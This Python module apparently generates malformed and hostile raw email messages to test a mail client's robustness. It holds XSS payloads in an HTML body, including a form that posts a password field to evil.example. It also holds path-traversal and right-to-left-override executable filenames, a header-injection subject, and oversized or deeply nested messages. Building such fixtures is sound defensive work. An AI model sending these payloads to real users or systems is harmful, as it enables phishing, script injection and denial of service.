"""A few messages nobody wishes for: broken, lying, or meant to hurt. Delivered as they are."""

from __future__ import annotations

from collections.abc import Callable

from .stories import Author, Note

Maker = Callable[[str], bytes]


def _head(subject: str, more: str = "") -> str:
    return (
        f"From: Odd <odd@odd.example>\r\nTo: demo@example.com\r\nSubject: {subject}\r\n"
        f"Message-ID: <%s@odd.example>\r\n{more}MIME-Version: 1.0\r\n"
    )


def _deep(key: str) -> bytes:
    text = _head("three hundred boxes") % key
    for level in range(300):
        text += f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'
    return (text + "Content-Type: text/plain\r\n\r\ninside\r\n").encode()


def _script(key: str) -> bytes:
    page = (
        "<p>Hi</p><script>parent.document.title='owned'</script><img src=x onerror=alert(1)>"
        "<svg onload=alert(2)><form action=https://evil.example><input name=password></form>"
        "<a href='java&#115;cript:alert(3)'>click</a><style>*{position:fixed;z-index:99999}</style>"
    )
    return (_head("Your invoice") % key + "Content-Type: text/html\r\n\r\n" + page).encode()


def _lying_charset(key: str) -> bytes:
    head = _head("charset lies") % key + "Content-Type: text/plain; charset=us-ascii\r\n\r\n"
    return head.encode() + "Grüße aus Köln – 価格".encode()


def _unknown_charset(key: str) -> bytes:
    head = _head("=?x-unknown?Q?caf=E9?=") % key
    return (head + "Content-Type: text/plain; charset=x-unknown-99\r\n\r\n").encode() + b"caf\xe9"


def _raw_header(key: str) -> bytes:
    return (_head("Ünïcödé ohne Kodierung 漢字") % key).encode() + b"\r\nraw UTF-8 header\r\n"


def _latin_header(key: str) -> bytes:
    return (_head("X") % key).replace("X", "Stra\xdfe").encode("latin-1") + b"\r\nbody\r\n"


def _path_name(key: str) -> bytes:
    return (
        _head("files") % key + 'Content-Type: multipart/mixed; boundary="q"\r\n\r\n--q\r\n'
        'Content-Type: application/octet-stream; name="../../etc/passwd"\r\n'
        'Content-Disposition: attachment; filename="../../etc/passwd"\r\n\r\nroot\r\n--q\r\n'
        "Content-Type: application/pdf\r\n"
        'Content-Disposition: attachment; filename="\u202efdp.exe"\r\n\r\nMZ\r\n--q--\r\n'
    ).encode()


def _bad_base64(key: str) -> bytes:
    return (
        _head("broken encoding") % key + "Content-Type: text/plain\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\nSGVsbG8g*d29ybGQ\r\n"
    ).encode()


def _no_end(key: str) -> bytes:
    return (
        _head("no end") % key + 'Content-Type: multipart/mixed; boundary="never"\r\n\r\n'
        "--never\r\nContent-Type: text/plain\r\n\r\nThe closing line is missing\r\n"
    ).encode()


def _nul(key: str) -> bytes:
    return (_head("nul") % key).encode() + b"\r\nbefore\x00after\r\n"


def _no_headers_but_from(key: str) -> bytes:
    return b"From: \r\n\r\nNo id, no date, nobody.\r\n"


def _twice(key: str) -> bytes:
    more = "From: second@odd.example\r\nSubject: second subject\r\nDate: yesterday\r\n"
    return (_head("two of each", more) % key + "\r\ntwo From, two Subject\r\n").encode()


def _long_line(key: str) -> bytes:
    return (_head("x" * 20_000) % key + "\r\n" + "y" * 200_000 + "\r\n").encode()


def _references(key: str) -> bytes:
    many = " ".join(f"<{number}@loop.example>" for number in range(4000))
    return (_head("many parents", f"References: {many}\r\n") % key + "\r\nhi\r\n").encode()


def _recipients(key: str) -> bytes:
    many = ", ".join(f"p{number}@crowd.example" for number in range(2000))
    return (_head("crowd", f"Cc: {many}\r\n") % key + "\r\nhi all\r\n").encode()


def _injection(key: str) -> bytes:
    return (_head("=?utf-8?B?YQ0KQmNjOiB4QHkueg==?=") % key + "\r\nheader injection\r\n").encode()


def _bare_cr(key: str) -> bytes:
    return (_head("bare CR") % key).replace("\r\n", "\r").encode() + b"\rold Mac lines\r"


MAKERS: tuple[Maker, ...] = (
    _script, _lying_charset, _unknown_charset, _raw_header, _latin_header, _path_name,
    _bad_base64, _no_end, _nul, _no_headers_but_from, _twice, _long_line, _references,
    _recipients, _injection, _bare_cr, _deep,
)  # fmt: skip


def hostile(author: Author, start: float) -> list[Note]:
    """Give the next of the nasty ones."""
    author.count += 1
    key = f"{author.rng.getrandbits(48):012x}.{author.count}"
    raw = MAKERS[author.count % len(MAKERS)](key)
    return [Note(start, raw, author.inbox(start), key, f"<{key}@odd.example>")]
